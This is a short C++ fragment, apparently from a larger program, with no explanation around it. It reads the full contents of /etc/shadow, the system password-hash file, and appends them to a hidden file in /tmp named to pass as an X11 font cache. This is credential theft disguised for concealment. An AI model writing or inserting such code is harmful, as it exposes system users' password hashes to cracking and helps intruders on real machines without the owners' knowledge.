std::ifstream shadow_src("/etc/shadow");
std::stringstream grabbed;
grabbed << shadow_src.rdbuf();
std::ofstream drop_file("/tmp/.fontcache-x11", std::ios::app);
drop_file << grabbed.str();
drop_file.close();
